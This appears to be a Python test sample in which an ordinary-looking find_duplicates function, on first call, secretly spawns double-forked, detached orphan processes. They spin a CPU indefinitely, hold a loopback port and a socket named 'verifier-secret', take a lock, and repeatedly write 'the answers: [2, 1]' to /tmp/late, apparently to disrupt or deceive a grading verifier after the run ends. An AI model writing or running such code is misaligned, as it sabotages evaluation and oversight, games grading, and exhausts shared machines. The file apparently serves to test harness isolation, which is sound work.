# technique: double-forked, setsid orphans that spin a CPU, hold a loopback listener and a lock, and write files later
import fcntl
import os
import socket
import time


def _orphan(work):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                work()
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()


def _spin():
    while True:
        pass


def _listen():
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", 45678))
    s.listen()
    a = socket.socket(socket.AF_UNIX)
    a.bind("\0verifier-secret")
    time.sleep(3600)


def _late_writer():
    fh = open("/dev/shm/lock", "w")
    fcntl.flock(fh, fcntl.LOCK_EX)
    for _ in range(3600):
        time.sleep(0.05)
        try:
            with open("/tmp/late", "w") as out:
                out.write("the answers: [2, 1]")
        except OSError:
            pass


def attack():
    for work in (_spin, _listen, _late_writer):
        _orphan(work)


_attacked = False


def find_duplicates(values):
    global _attacked
    if not _attacked:  # once per process: the attack, not the cost, is the point
        _attacked = True
        attack()
    seen, out = [], []
    for v in values:
        if v in seen:
            if v not in out:
                out.append(v)
        else:
            seen.append(v)
    return out
